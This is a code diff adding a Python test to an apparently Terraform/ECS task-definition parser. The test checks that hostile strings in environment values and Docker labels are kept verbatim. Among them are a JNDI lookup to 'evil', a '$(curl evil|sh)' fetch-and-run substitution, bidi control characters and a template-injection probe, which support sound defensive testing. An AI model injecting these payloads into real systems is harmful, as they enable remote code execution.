@@ -309,3 +309,26 @@ def test_counted_module_links_references() -> None:
     (service,) = inv.services
     assert service.task_definition == 'module.svc["a"].aws_ecs_task_definition.t'
     assert inv.task_definition(service.task_definition) is not None
+
+
+def test_hostile_strings_survive_verbatim() -> None:
+    hostile = [
+        "${jndi:ldap://evil/a}",
+        "$(curl evil|sh)",
+        "\u202eevil\u200b",
+        "\x1b[2J",
+        "a\nb",
+        "{{7*7}}",
+    ]
+    containers = [
+        {
+            "name": "web",
+            "image": "nginx",
+            "environment": [{"name": f"V{i}", "value": v} for i, v in enumerate(hostile)],
+            "dockerLabels": {v: v for v in hostile},
+        }
+    ]
+    values = {"family": "web", "container_definitions": json.dumps(containers)}
+    (td,) = _one("aws_ecs_task_definition", values).task_definitions
+    assert [e.value for e in td.container_definitions[0].environment] == hostile
+    assert td.container_definitions[0].docker_labels == {v: v for v in hostile}
